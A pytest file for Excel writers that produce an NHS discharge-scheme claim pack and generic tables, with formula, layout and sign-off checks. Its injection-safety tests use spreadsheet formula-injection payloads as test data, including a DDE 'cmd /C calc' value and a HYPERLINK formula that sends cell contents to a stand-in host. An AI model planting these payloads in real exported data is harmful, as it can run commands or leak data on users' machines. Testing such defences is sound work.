"""The Excel writers: the month-end claim pack and the generic table workbook.

Workbooks are read back with openpyxl; totals are checked by a small
evaluator of the formulas written (SUM, SUMIFS, SUMPRODUCT(--EXACT)) and,
when LibreOffice is installed, by LibreOffice itself, which also prints the
pack to PDF so the page counts can be checked.
"""

from __future__ import annotations

import hashlib
import io
import os
import random
import re
import shutil
import subprocess
from collections import defaultdict
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook

from claims.report.deliver import Report
from claims.report.excel import (
    FINDING_COLUMNS, MONEY_FORMAT, RECHARGE_COLUMNS, RECON_COLUMNS, RUNNING_COLUMNS, ClaimPack, Column, PackLine,
    Partner, Sheet, Submission, claim_pack_bytes, table_workbook_bytes,
)
from claims.report.safe import FORMULA_LEADERS, FULL_WIDTH_LEADERS, is_neutral, neutralise

SCHEMES = ("HDS1", "HDS2", "HDS3", "HDS4")
SERVICES = ("home_care", "reablement", "residential", "nursing", "interim_bed", "isolation")
REASONS = (
    "episode E{n:07d}: end date 2020-09-14 -> 2020-09-21 in load 14",
    "care act assessment dated 2020-08-30 loaded in load 13",
    "the rulebook changed since submission 3",
    "not claimed in submission 4",
    "discharge D{n:07d}: NHS number changed in load 15; chc decision (not_eligible) dated 2020-09-02 loaded in "
    "load 15, so the free period ends earlier than first claimed and the days after it are withdrawn",
)


def money(pence: int) -> Decimal:
    return Decimal(pence).scaleb(-2)


def record(columns, *values) -> dict:
    """A row of a report: the values of these columns' fields."""
    return dict(zip((c.key for c in columns), values))


def recon_row(*values) -> dict:
    return record(RECON_COLUMNS, *values)


def running_row(*values) -> dict:
    return record(RUNNING_COLUMNS, *values)


def recharge_item(*values) -> dict:
    return record(RECHARGE_COLUMNS, *values)


def finding(*values) -> dict:
    return record(FINDING_COLUMNS, *values)


def keys(columns) -> tuple[str, ...]:
    return tuple(c.key for c in columns)


def make_pack(*, lines: int = 200, adjustments: int = 20, blocks: int = 3, status: str = "submitted",
              findings: int | None = 5, reconciliation: bool = True, recharge: bool = True,
              warnings: tuple[str, ...] = (), seed: int = 7) -> ClaimPack:
    """A realistic, synthetic pack for October 2020."""
    rng = random.Random(seed)
    current = []
    for n in range(lines - blocks):
        days = rng.randint(1, 31)
        current.append(PackLine(
            "2020-10", "individual", f"P{1000 + n:06d}", f"D{2000 + n:07d}", f"E{3000 + n:07d}", "", "",
            rng.choice(SCHEMES[:3]), rng.choice(SERVICES), rng.choice(("OCC", "OCC", "OCCG")), days,
            money(days * rng.randint(2_000, 16_000))))
    for n in range(blocks):
        current.append(PackLine(
            "2020-10", "block", "", "", "", f"B{n + 1:04d}",
            f"{12 + 6 * n} designated beds at a care home in Banbury, 12 weeks from 5 November 2020 with an "
            f"extension option", "HDS2", "block", "OCC", 31, money(rng.randint(5_000_000, 9_000_000))))
    adjusted = []
    for n in range(adjustments):
        kind = "block" if n == adjustments - 1 else "individual"
        adjusted.append(PackLine(
            rng.choice(("2020-08", "2020-09")), kind, "" if kind == "block" else f"P{1000 + n:06d}",
            "" if kind == "block" else f"D{2000 + n:07d}", "" if kind == "block" else f"E{3000 + n:07d}",
            "B0001" if kind == "block" else "", "", rng.choice(SCHEMES), "block" if kind == "block" else
            rng.choice(SERVICES), rng.choice(("OCC", "OCCG")), rng.randint(-10, 10),
            money(rng.randint(-250_000, 120_000)), REASONS[n % len(REASONS)].format(n=2000 + n)))
    submitted = status == "submitted"
    submission = Submission(5, "2020-11-05T09:12:44+00:00", "j.smith", hashlib.sha256(b"october").hexdigest(), 15,
                            "2020.3") if submitted else None
    rec = Report(
        "Reconciliation", keys(RECON_COLUMNS),
        rows=(recon_row("HDS1", money(31_245_000), money(31_245_000), money(0), "matched", None, None),
              recon_row("HDS2", money(54_120_055), money(50_000_000), money(-4_120_055), "under-paid",
                       money(-1_648_022), money(-2_472_033)),
              recon_row("HDS3", money(2_500_000), money(0), None, "awaiting", None, None)),
        more=(Report("Running position", keys(RUNNING_COLUMNS), rows=(
            running_row("2020-08", money(70_000_000), money(70_000_000), money(0), "matched"),
            running_row("2020-09", money(81_000_000), money(80_500_000), money(-500_000), "under-paid"),
            running_row("2020-10", money(87_865_055), money(81_245_000), None, "awaiting"))),),
        data={"shortfall_split": "in proportion to each partner's costs in the scheme"}) if reconciliation else None
    rch = Report(
        "Recharge", keys(RECHARGE_COLUMNS),
        rows=(recharge_item("Care the CCG commissioned that the council funds (4.2)", "OCC", "OCCG", 12,
                            money(1_834_510)),
               recharge_item("Care the council commissioned that the CCG funds, continuing healthcare (4.3)",
                            "OCCG", "OCC", 31, money(4_410_075)),
               recharge_item("Shortfall on HDS2 for 2020-09, council share (5.4)", "OCC", "OCCG", 1,
                            money(200_000))),
        data={"net": {"owed_by": "OCCG", "owed_to": "OCC", "amount": money(2_375_565)}}) if recharge else None
    found = None if findings is None else Report("Findings", keys(FINDING_COLUMNS), tuple(
        finding(f"F{n + 1:02d}", ("error", "warning", "info")[n % 3], f"5.{n + 1}",
                ", ".join(f"E{3000 + n * 7 + k:07d}" for k in range(1 + n * 3)),
                money(rng.randint(1_000, 900_000)) if n % 2 == 0 else None,
                "the episode runs past the end of the scheme's free period and the days after it are claimed "
                "from NHS England")
        for n in range(findings)))
    return ClaimPack(
        month="2020-10", status=status, council=Partner("OCC", "Oxfordshire County Council"),
        ccg=Partner("OCCG", "Oxfordshire Clinical Commissioning Group"), generated_at="2020-11-05T09:15:02+00:00",
        load_id=15, rulebook_version="2020.3", submission=submission, lines=tuple(current),
        adjustments=tuple(adjusted), reconciliation=rec, recharge=rch, findings=found, warnings=warnings)


# --- reading workbooks back ------------------------------------------------------------

def read(data: bytes, **options):
    return load_workbook(io.BytesIO(data), **options)


def column_of(ws, heading: str, header_row: int) -> int:
    for cell in ws[header_row]:
        if cell.value == heading:
            return cell.column
    raise AssertionError(f"no column {heading!r} in row {header_row} of {ws.title}")


def row_labelled(ws, label: str, column: int = 1, after: int = 0) -> int:
    """The row whose cell is `label` (a label ending in '...': the row whose cell starts so)."""
    for row in ws.iter_rows(min_row=after + 1, min_col=column, max_col=column):
        value = row[0].value
        if value == label or (label.endswith("...") and isinstance(value, str) and value.startswith(label[:-3])):
            return row[0].row
    raise AssertionError(f"no row labelled {label!r} in {ws.title}")


def as_decimal(value) -> Decimal:
    if value is None:
        return Decimal(0)
    return Decimal(str(value))


# --- a small evaluator for the formulas the writers use ---------------------------------

REF = r"(?:'((?:[^']|'')+)'!|([A-Za-z][\w ]*)!)?\$?([A-Z]+)\$?(\d+)(?::\$?([A-Z]+)\$?(\d+))?"


class Evaluator:
    """Evaluates SUM, SUMIFS and SUMPRODUCT(--EXACT(range, x), range), the only
    functions the writers use, over a workbook read with openpyxl."""

    def __init__(self, book):
        self.book = book

    def value(self, sheet: str, coordinate: str):
        cell = self.book[sheet][coordinate]
        if cell.data_type == "f":
            return self.formula(sheet, cell.value)
        return cell.value

    def cells(self, sheet: str, ref: str) -> list:
        match = re.fullmatch(REF, ref.strip())
        assert match, ref
        quoted, bare, c1, r1, c2, r2 = match.groups()
        name = (quoted.replace("''", "'") if quoted else bare) or sheet
        ws = self.book[name]
        c2, r2 = c2 or c1, r2 or r1
        return [(name, cell.coordinate) for row in ws[f"{c1}{r1}:{c2}{r2}"] for cell in row]

    def arg(self, sheet: str, text: str):
        text = text.strip()
        if text.startswith('"'):
            return text[1:-1].replace('""', '"')
        return [self.value(*where) for where in self.cells(sheet, text)]

    def formula(self, sheet: str, text: str) -> Decimal:
        match = re.fullmatch(r"=(SUM|SUMIFS|SUMPRODUCT)\((.*)\)", text)
        assert match, f"unexpected formula {text}"
        function, inner = match.groups()
        args = split_args(inner)
        if function == "SUM":
            return sum((as_decimal(v) for a in args for v in self.arg(sheet, a)), Decimal(0))
        if function == "SUMIFS":
            amounts, keys, wanted = self.arg(sheet, args[0]), self.arg(sheet, args[1]), self.arg(sheet, args[2])
            wanted = wanted if isinstance(wanted, str) else wanted[0]
            return sum((as_decimal(a) for a, k in zip(amounts, keys)
                        if isinstance(k, str) and k.lower() == str(wanted).lower()), Decimal(0))
        exact = re.fullmatch(r"--EXACT\((.*)\)", args[0])
        assert exact, text
        keys_ref, wanted = split_args(exact.group(1))
        keys, wanted, amounts = self.arg(sheet, keys_ref), self.arg(sheet, wanted), self.arg(sheet, args[1])
        wanted = wanted if isinstance(wanted, str) else (wanted[0] or "")
        return sum((as_decimal(a) for a, k in zip(amounts, keys) if (k or "") == wanted), Decimal(0))


def split_args(text: str) -> list[str]:
    out, depth, quoted, start = [], 0, False, 0
    for i, ch in enumerate(text):
        if ch == '"':
            quoted = not quoted
        elif ch == "'" and not quoted:
            pass
        elif not quoted and ch == "(":
            depth += 1
        elif not quoted and ch == ")":
            depth -= 1
        elif not quoted and depth == 0 and ch == ",":
            out.append(text[start:i])
            start = i + 1
    out.append(text[start:])
    return out


def summary_rows(ws) -> dict[str, int]:
    """Row number of each label in column A of the Summary (first occurrence)."""
    rows: dict[str, int] = {}
    for (cell,) in ws.iter_rows(min_col=1, max_col=1):
        if isinstance(cell.value, str):
            rows.setdefault(cell.value, cell.row)
    return rows


def breakdown(ws, title: str) -> dict[str, tuple[int, str]]:
    """{label: (row, label)} of one 'By ...' table on the Summary, up to its Total row."""
    start = row_labelled(ws, title)
    out = {}
    for (cell,) in ws.iter_rows(min_row=start + 1, min_col=1, max_col=1):
        if cell.value == "Total":
            out["Total"] = (cell.row, "Total")
            return out
        out[cell.value] = (cell.row, cell.value)
    raise AssertionError(f"{title} has no Total row")


def expected_by(pack: ClaimPack, key: str, which: str) -> dict[str, Decimal]:
    totals: dict[str, Decimal] = defaultdict(Decimal)
    for line in getattr(pack, which):
        totals[neutralise(getattr(line, key)) if getattr(line, key) else "(blank)"] += line.amount
    return totals


def all_cells(book):
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws, cell


@pytest.fixture(scope="module")
def pack() -> ClaimPack:
    return make_pack()


@pytest.fixture(scope="module")
def book(pack):
    return read(claim_pack_bytes(pack))


# --- neutralise ----------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+44 1865 000000", "-2.50", "@SUM(A1:A2)", "\t=cmd", "\r=cmd",
                                  "=HYPERLINK(\"http://example.invalid\",\"x\")", "\uff1d1+1", "\uff0b1", "\uff0d1",
                                  "\uff20x"])
def test_neutralise_quotes_every_formula_leader(text):
    assert neutralise(text) == "'" + text
    assert is_neutral(neutralise(text))


@pytest.mark.parametrize("text", ["", "HDS1", "P000123", "O'Brien care home", "'=already quoted", " =x", "1+1",
                                  "a=b", "care (4.2) - council", "£1,234.50", "#N/A", "9990000001", "ＡＢＣ"])
def test_neutralise_leaves_other_text_alone(text):
    assert neutralise(text) == text


def test_leaders_are_the_owasp_set_and_full_width_forms():
    assert FORMULA_LEADERS == ("=", "+", "-", "@", "\t", "\r")
    assert FULL_WIDTH_LEADERS == ("＝", "＋", "－", "＠")


def test_neutralise_takes_only_text():
    with pytest.raises(TypeError):
        neutralise(-12)  # numbers stay numbers: they are never passed through the text rule


@given(st.text(max_size=30))
def test_neutralise_is_safe_idempotent_and_minimal(text):
    once = neutralise(text)
    assert is_neutral(once)
    assert neutralise(once) == once
    assert once == text or (once == "'" + text and not is_neutral(text))


# --- the claim pack: summary totals ---------------------------------------------------

def test_summary_totals_are_formulas_over_the_line_sheets(pack, book):
    ws = book["Summary"]
    rows = summary_rows(ws)
    evaluate = Evaluator(book)
    expect = {
        "Individual lines, October 2020": ("'Current lines'!", sum(l.amount for l in pack.lines if l.kind == "individual")),
        "Block costs, October 2020": ("'Block costs'!", sum(l.amount for l in pack.lines if l.kind == "block")),
        "Current month, October 2020": ("'Current lines'!", sum(l.amount for l in pack.lines)),
        "Adjustments for earlier months": ("'Adjustments'!", sum(l.amount for l in pack.adjustments)),
        "Total claim": ("'Current lines'!", sum(l.amount for l in pack.lines + pack.adjustments)),
    }
    for label, (sheet_ref, amount) in expect.items():
        cell = ws.cell(rows[label], 4)
        assert cell.data_type == "f" and cell.value.startswith("=SUM"), (label, cell.value)
        assert sheet_ref in cell.value, (label, cell.value)
        assert cell.number_format == MONEY_FORMAT
        assert evaluate.value("Summary", cell.coordinate) == amount, label
    assert "'Adjustments'!" in ws.cell(rows["Total claim"], 4).value
    assert ws.cell(rows["Adjustments for earlier months"], 3).value == len(pack.adjustments)
    assert sum(l.amount for l in pack.adjustments) < 0  # the pack exercises negative totals


@pytest.mark.parametrize("key, title", [("scheme", "By scheme"), ("service", "By service"),
                                        ("organisation", "By organisation")])
def test_summary_breakdowns_add_up_by_label(pack, book, key, title):
    ws = book["Summary"]
    evaluate = Evaluator(book)
    table = breakdown(ws, title)
    current, adjusted = expected_by(pack, key, "lines"), expected_by(pack, key, "adjustments")
    if key == "service":  # services are shown by their names (interim_bed: Interim bed)
        from claims.report.labels import service_text

        current, adjusted = ({service_text(k): v for k, v in t.items()} for t in (current, adjusted))
    assert set(table) - {"Total"} == set(current) | set(adjusted)
    for label, (row, _) in table.items():
        for column, sheet in ((2, "'Current lines'!"), (3, "'Adjustments'!")):
            cell = ws.cell(row, column)
            assert cell.data_type == "f" and cell.value.startswith("=SUM"), cell.value
            if label != "Total":
                assert sheet in cell.value
        if label == "Total":
            continue
        assert evaluate.value("Summary", f"B{row}") == current.get(label, 0)
        assert evaluate.value("Summary", f"C{row}") == adjusted.get(label, 0)
        assert evaluate.value("Summary", f"D{row}") == current.get(label, 0) + adjusted.get(label, 0)
    total_row = table["Total"][0]
    assert evaluate.value("Summary", f"D{total_row}") == sum(l.amount for l in pack.lines + pack.adjustments)


def test_odd_labels_are_totalled_exactly(book):
    odd = make_pack(lines=30, adjustments=6, findings=None)
    lines = list(odd.lines)
    lines[0] = replace(lines[0], organisation="=Evil()", amount=Decimal("100.01"))
    lines[1] = replace(lines[1], organisation="St Mary's*", amount=Decimal("200.02"))
    lines[2] = replace(lines[2], organisation="St Mary's Hospital", amount=Decimal("300.03"))
    lines[3] = replace(lines[3], organisation="occ", amount=Decimal("400.04"))
    lines[4] = replace(lines[4], organisation="", amount=Decimal("500.05"))
    lines[5] = replace(lines[5], organisation="TRUE", amount=Decimal("600.06"))
    odd = replace(odd, lines=tuple(lines))
    wb = read(claim_pack_bytes(odd))
    ws, evaluate = wb["Summary"], Evaluator(wb)
    table = breakdown(ws, "By organisation")
    expected = expected_by(odd, "organisation", "lines")
    assert {"'=Evil()", "St Mary's*", "occ", "(blank)", "TRUE"} <= set(table)
    for label in ("'=Evil()", "St Mary's*", "St Mary's Hospital", "occ", "OCC", "(blank)", "TRUE"):
        row = table[label][0]
        assert evaluate.value("Summary", f"B{row}") == expected[label], label
    assert ws.cell(table["'=Evil()"][0], 2).value.startswith("=SUMPRODUCT(--EXACT(")
    assert ws.cell(table["HDS1" if "HDS1" in table else "OCCG"][0], 2).value.startswith("=SUMIFS(")


def test_an_empty_month_totals_zero():
    empty = replace(make_pack(findings=None), lines=(), adjustments=())
    wb = read(claim_pack_bytes(empty))
    ws, evaluate = wb["Summary"], Evaluator(wb)
    rows = summary_rows(ws)
    assert evaluate.value("Summary", f"D{rows['Total claim']}") == 0
    assert wb["Current lines"]["A3"].value == "No lines for October 2020"
    assert wb["Adjustments"]["A3"].value == "No adjustments to earlier months"


# --- the claim pack: line sheets --------------------------------------------------------

def test_line_sheets_have_readable_headings_money_and_totals(pack, book):
    ws = book["Current lines"]
    headings = [c.value for c in ws[2]]
    assert headings == ["Kind", "Patient", "Discharge", "Episode", "Block", "Scheme", "Service", "Organisation",
                        "Days", "Amount"]
    adjust = [c.value for c in book["Adjustments"][2]]
    assert adjust[0] == "For month" and adjust[-2:] == ["Amount", "Reason"]
    assert [c.value for c in book["Block costs"][2]][:2] == ["Block", "Description"]
    amount, days = column_of(ws, "Amount", 2), column_of(ws, "Days", 2)
    for n, line in enumerate(pack.lines):
        money_cell, days_cell = ws.cell(3 + n, amount), ws.cell(3 + n, days)
        assert money_cell.data_type == "n" and as_decimal(money_cell.value) == line.amount
        assert money_cell.number_format == MONEY_FORMAT
        assert isinstance(days_cell.value, int) and days_cell.value == line.days
    total = ws.cell(3 + len(pack.lines), amount)
    assert ws.cell(total.row, 1).value == "Total"
    assert total.value == f"=SUM(J3:J{2 + len(pack.lines)})" and total.number_format == MONEY_FORMAT
    assert Evaluator(book).value("Current lines", total.coordinate) == sum(l.amount for l in pack.lines)


def test_adjustments_keep_negative_amounts_months_and_reasons(pack, book):
    ws = book["Adjustments"]
    month_col, amount, reason = (column_of(ws, h, 2) for h in ("For month", "Amount", "Reason"))
    negatives = 0
    for n, line in enumerate(pack.adjustments):
        assert ws.cell(3 + n, month_col).value == datetime(int(line.claim_month[:4]), int(line.claim_month[5:]), 1)
        assert ws.cell(3 + n, month_col).number_format == "mmm yyyy"
        assert as_decimal(ws.cell(3 + n, amount).value) == line.amount
        assert ws.cell(3 + n, reason).value == line.reason
        negatives += line.amount < 0
    assert negatives
    assert ws.column_dimensions[get_letter(reason)].width <= 45  # long reasons wrap, the column stays narrow
    long_row = 3 + next(n for n, l in enumerate(pack.adjustments) if len(l.reason) > 100)
    assert ws.cell(long_row, reason).alignment.wrap_text
    assert ws.row_dimensions[long_row].height >= 3 * 12


def get_letter(column: int) -> str:
    from openpyxl.utils import get_column_letter
    return get_column_letter(column)


def test_block_costs_sheet_lists_the_months_block_lines(pack, book):
    ws = book["Block costs"]
    blocks = [l for l in pack.lines if l.kind == "block"]
    assert [ws.cell(3 + n, 1).value for n in range(len(blocks))] == [b.block_id for b in blocks]
    assert [ws.cell(3 + n, 2).value for n in range(len(blocks))] == [b.description for b in blocks]
    assert ws.cell(3 + len(blocks), 1).value == "Total"


@pytest.mark.parametrize("title, last", [("Current lines", "J"), ("Adjustments", "L"), ("Block costs", "G")])
def test_line_sheets_filter_and_freeze_their_header(pack, book, title, last):
    ws = book[title]
    count = {"Current lines": len(pack.lines), "Adjustments": len(pack.adjustments),
             "Block costs": sum(l.kind == "block" for l in pack.lines)}[title]
    assert ws.freeze_panes == "A3"
    assert ws.auto_filter.ref == f"A2:{last}{2 + count}"
    assert ws.print_title_rows == "$1:$2"
    assert ws["A2"].font.bold


def fit_to(setup) -> tuple[int, int]:
    """The pages wide and long a sheet is fitted to, as the file says: an absent
    fitToWidth or fitToHeight is 1 (the default of ECMA-376's CT_PageSetup)."""
    return tuple(1 if value is None else int(value) for value in (setup.fitToWidth, setup.fitToHeight))


def test_every_sheet_prints_landscape_a4_one_page_wide(book):
    assert book.sheetnames == ["Summary", "Current lines", "Adjustments", "Block costs", "Reconciliation",
                               "Recharge", "Findings"]
    for ws in book:
        setup = ws.page_setup
        assert setup.orientation == "landscape", ws.title
        assert int(setup.paperSize) == 9, ws.title
        assert fit_to(setup) == (1, 0), ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.print_title_rows, ws.title
        assert ws.oddHeader.left.text == "&A"
        assert "October 2020" in ws.oddHeader.center.text
        assert ws.oddFooter.center.text == "Page &P of &N"
        assert ws.oddHeader.right.text == "Submission 5"
        assert 0.3 <= ws.page_margins.left <= 0.8 and 0.5 <= ws.page_margins.top <= 1.0


# --- the claim pack: draft and submitted --------------------------------------------------

def test_submitted_pack_shows_the_submission_and_its_hash(pack, book):
    ws = book["Summary"]
    rows = summary_rows(ws)
    assert ws["A1"].value == "Hospital Discharge Scheme claim to NHS England"
    assert ws.cell(rows["Submission"], 2).value == 5
    assert ws.cell(rows["Submitted at"], 2).value == datetime(2020, 11, 5, 9, 12, 44)
    assert ws.cell(rows["Submitted by"], 2).value == "j.smith"
    hash_cell = ws.cell(rows["Hash (SHA-256)"], 2)
    assert hash_cell.value.replace(" ", "").replace("\n", "") == pack.submission.hash
    assert hash_cell.font.name == "Courier New" and hash_cell.alignment.wrap_text
    assert max(len(line) for line in hash_cell.value.split("\n")) <= 35
    assert ws.cell(rows["Council"], 2).value == "Oxfordshire County Council (OCC)"
    assert ws.cell(rows["CCG"], 2).value == "Oxfordshire Clinical Commissioning Group (OCCG)"
    assert ws.cell(rows["Rulebook version"], 2).value == "2020.3" and ws.cell(rows["Load"], 2).value == 15
    assert "DRAFT" not in " ".join(str(c.value) for _, c in all_cells(book) if isinstance(c.value, str))


def test_draft_pack_says_draft_everywhere():
    draft = make_pack(status="draft", warnings=("the ledger fails verification",))
    wb = read(claim_pack_bytes(draft))
    ws = wb["Summary"]
    rows = summary_rows(ws)
    assert ws["A2"].value.startswith("DRAFT") and ws["A2"].font.color.rgb.endswith("C00000")
    assert ws.cell(rows["Status"], 2).value == "DRAFT"
    assert "Hash (SHA-256)" not in rows and "Submitted by" not in rows
    warning = ws.cell(rows["Warning: the ledger fails verification"], 1)
    assert warning.font.color.rgb.endswith("C00000") and warning.font.bold
    for sheet in wb:
        assert sheet.oddHeader.right.text == "DRAFT" and sheet.oddHeader.right.color == "C00000", sheet.title


def test_sign_off_has_empty_boxes_for_three_signatures(book):
    ws = book["Summary"]
    header = row_labelled(ws, "Sign-off: the claim for October 2020...")
    assert [c.value for c in ws[header + 1]][1:5] == ["Name", "Role", "Signature", "Date"]
    for offset, role in enumerate(("Prepared by", "Checked by", "Approved by"), 2):
        row = header + offset
        assert ws.cell(row, 1).value == role
        assert ws.row_dimensions[row].height >= 28
        for column in range(2, 6):
            box = ws.cell(row, column)
            assert box.value is None
            assert all(getattr(box.border, side).style == "thin" for side in ("left", "right", "top", "bottom"))


def test_sign_off_moves_whole_to_the_next_page_when_page_one_is_full():
    many = tuple(f"warning number {n}: something the finance officer must look at before signing" for n in range(8))
    wb = read(claim_pack_bytes(make_pack(warnings=many)))
    ws = wb["Summary"]
    sign = row_labelled(ws, "Sign-off: the claim for October 2020...")
    breaks = [b.id for b in ws.row_breaks.brk]
    assert breaks[0] == sign - 1


# --- the claim pack: the other sheets ---------------------------------------------------

def test_findings_sheet_present_absent_or_empty():
    assert "Findings" not in read(claim_pack_bytes(make_pack(findings=None))).sheetnames
    empty = read(claim_pack_bytes(make_pack(findings=0)))["Findings"]
    assert empty["A1"].value.startswith("No findings")
    summary = read(claim_pack_bytes(make_pack(findings=None)))["Summary"]
    assert summary.cell(summary_rows(summary)["Checks"], 2).value == "Not run"


def test_findings_are_listed(pack, book):
    ws = book["Findings"]
    assert [c.value for c in ws[2]] == ["Code", "Severity", "Paragraph", "IDs", "Amount", "What it means"]
    for n, found in enumerate(pack.findings.rows):
        assert ws.cell(3 + n, 1).value == found["code"]
        assert ws.cell(3 + n, 4).value == found["ids"]
        value = ws.cell(3 + n, 5).value
        assert (value is None) if found["amount"] is None else as_decimal(value) == found["amount"]


def test_recharge_net_is_a_sentence_and_a_money_cell(pack, book):
    ws = book["Recharge"]
    net_row = row_labelled(ws, "Net: OCCG owes OCC")
    amount = ws.cell(net_row, column_of(ws, "Amount", 2))
    assert amount.data_type == "n" and as_decimal(amount.value) == pack.recharge.data["net"]["amount"]
    assert amount.number_format == MONEY_FORMAT
    assert [ws.cell(3 + n, 1).value for n in range(3)] == [i["item"] for i in pack.recharge.rows]
    nothing = replace(pack.recharge, data={"net": {**pack.recharge.data["net"], "amount": Decimal("0.00")}})
    ws = read(claim_pack_bytes(replace(pack, recharge=nothing)))["Recharge"]
    row = row_labelled(ws, "Net: nothing is due either way")
    assert ws.cell(row, 5).value == 0 and ws.cell(row, 5).data_type == "n"


def test_recharge_sheet_absent_without_a_recharge():
    assert "Recharge" not in read(claim_pack_bytes(make_pack(recharge=False))).sheetnames


def test_reconciliation_table_or_note(pack, book):
    ws = book["Reconciliation"]
    assert [c.value for c in ws[2]][:4] == ["Scheme", "Claimed", "Received", "Difference"]
    total = row_labelled(ws, "Total")
    evaluate = Evaluator(book)
    assert evaluate.value("Reconciliation", f"B{total}") == sum(r["claimed"] for r in pack.reconciliation.rows)
    assert ws.cell(total, 4).value is None  # HDS3 awaits payment: no total of differences
    assert ws.cell(total, 6).value.startswith("=SUM")
    assert ws.cell(4 + 1, 4).value is None  # HDS3's difference is blank, not zero
    note = read(claim_pack_bytes(make_pack(reconciliation=False)))["Reconciliation"]
    assert note["A1"].value.startswith("No reconciliation for October 2020")
    assert note.max_row == 1


# --- safety -------------------------------------------------------------------------------

EVIL = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "\t=1+1", "＝1+1")


def evil_pack() -> ClaimPack:
    base = make_pack(lines=12, adjustments=6, blocks=2)
    lines = [replace(l, patient_id=EVIL[n % 6], episode_id=EVIL[(n + 1) % 6], organisation=EVIL[(n + 2) % 6])
             for n, l in enumerate(base.lines[:-2])] + [replace(l, description=EVIL[n]) for n, l in
                                                         enumerate(base.lines[-2:])]
    adjustments = [replace(l, reason=EVIL[n % 6], discharge_id=EVIL[(n + 3) % 6], scheme=EVIL[(n + 4) % 6])
                   for n, l in enumerate(base.adjustments)]
    return replace(base, lines=tuple(lines), adjustments=tuple(adjustments),
                   council=Partner("=OCC", "=cmd|'/C calc'!A0"), ccg=Partner("@OCCG", "-CCG"),
                   warnings=("=1+1",), submission=replace(base.submission, submitted_by="=user"),
                   recharge=replace(base.recharge, rows=(recharge_item("=bad", "=OCC", "@OCCG", 1, Decimal("1.00")),),
                                    data={"net": {**base.recharge.data["net"], "owed_by": "=OCC"}}),
                   findings=replace(base.findings, rows=(finding("=F", "@high", "-5.1", "+E1", None, "=message"),)))


def test_no_data_becomes_a_formula():
    wb = read(claim_pack_bytes(evil_pack()))
    formulas = [(ws.title, c.value) for ws, c in all_cells(wb) if c.data_type == "f"]
    assert formulas and all(re.fullmatch(r"=(SUM|SUMIFS|SUMPRODUCT)\(.*\)", f) for _, f in formulas), formulas
    assert not any("HYPERLINK" in f or "cmd" in f for _, f in formulas)
    for ws, cell in all_cells(wb):
        if cell.data_type == "s":
            assert is_neutral(cell.value), (ws.title, cell.coordinate, cell.value)
    lines = wb["Current lines"]
    assert lines["B3"].value == "'" + EVIL[0] and lines["B3"].data_type == "s"
    assert lines["B4"].value == "'" + EVIL[1] and lines["B6"].value == "'" + EVIL[3]
    assert wb["Block costs"]["B3"].value == "'" + EVIL[0]
    adjust = wb["Adjustments"]
    assert adjust.cell(3, column_of(adjust, "Reason", 2)).value == "'" + EVIL[0]
    summary = wb["Summary"]
    rows = summary_rows(summary)
    assert summary.cell(rows["Council"], 2).value == "'=cmd|'/C calc'!A0 (=OCC)"
    assert summary.cell(rows["CCG"], 2).value == "'-CCG (@OCCG)"
    assert summary.cell(rows["Submitted by"], 2).value == "'=user"
    assert wb["Findings"]["A3"].value == "'=F" and wb["Findings"]["F3"].value == "'=message"


def test_error_lookalikes_and_control_characters_stay_text():
    base = make_pack(lines=4, adjustments=1, blocks=1, findings=None)
    lines = [replace(base.lines[0], patient_id="#N/A", episode_id="#REF!", organisation="bad\x07char")] + list(
        base.lines[1:])
    wb = read(claim_pack_bytes(replace(base, lines=tuple(lines))))
    ws = wb["Current lines"]
    assert ws["B3"].value == "#N/A" and ws["B3"].data_type == "s"
    assert ws["D3"].value == "#REF!" and ws["D3"].data_type == "s"
    assert ws["H3"].value == "bad\ufffdchar"


def test_money_must_be_decimal():
    base = make_pack(lines=3, adjustments=0, blocks=1, findings=None)
    bad = replace(base, lines=(replace(base.lines[0], amount=12.5),) + base.lines[1:])
    with pytest.raises(TypeError, match="Current lines, row 1, Amount"):
        claim_pack_bytes(bad)
    with pytest.raises(ValueError):
        claim_pack_bytes(replace(base, status="sent"))
    with pytest.raises(ValueError):
        claim_pack_bytes(replace(base, month="2020-13"))


def test_large_amounts_keep_their_pence():
    base = make_pack(lines=3, adjustments=1, blocks=1, findings=None)
    lines = (replace(base.lines[0], amount=Decimal("123456789012.34")),) + base.lines[1:]
    wb = read(claim_pack_bytes(replace(base, lines=lines)))
    assert as_decimal(wb["Current lines"]["J3"].value) == Decimal("123456789012.34")


def test_a_large_pack_points_its_totals_at_every_line():
    # ten times the module's pack, in four-digit rows: the ranges run to the last line whatever the size
    # (the same assertions held for 20,000 lines, in five times the time)
    big = make_pack(lines=2_000, adjustments=200, findings=None)
    wb = read(claim_pack_bytes(big))
    ws = wb["Summary"]
    total = ws.cell(summary_rows(ws)["Total claim"], 4).value
    assert total == "=SUM('Current lines'!$J$3:$J$2002,'Adjustments'!$K$3:$K$202)"
    assert wb["Current lines"]["J2003"].value == "=SUM(J3:J2002)"
    assert wb["Current lines"].max_row == 2003 and wb["Adjustments"]["K203"].value == "=SUM(K3:K202)"


# --- the generic workbook -----------------------------------------------------------------

def test_table_workbook_writes_typed_printable_tables():
    columns = (Column("patient_id", "Patient", "text"), Column("start", "Start", "date"),
               Column("month", "Month", "month"), Column("days", "Days", "int"),
               Column("amount", "Amount (£)", "money"), Column("note", "Note", "text"))
    rows = ({"patient_id": "P000001", "start": date(2020, 10, 3), "month": "2020-10", "days": 3,
             "amount": Decimal("12.50"), "note": "=2+2"},
            {"patient_id": "P000002", "start": "2020-10-04", "month": "2020-11", "days": 5,
             "amount": Decimal("-1234.56"), "note": "x" * 120},
            {"patient_id": "P000003", "start": "2020-10-05T10:30:00+01:00", "month": "2020-11", "days": None,
             "amount": None})
    data = table_workbook_bytes([Sheet("Allocations: Oct/Nov", columns, rows, total=True, heading="Allocations"),
                                 Sheet("Empty", columns, ())])
    wb = read(data)
    assert wb.sheetnames == ["Allocations- Oct-Nov", "Empty"]
    ws = wb["Allocations- Oct-Nov"]
    assert ws["A1"].value == "Allocations"
    assert [c.value for c in ws[2]] == ["Patient", "Start", "Month", "Days", "Amount (£)", "Note"]
    assert ws["B3"].value == datetime(2020, 10, 3) and ws["B3"].is_date
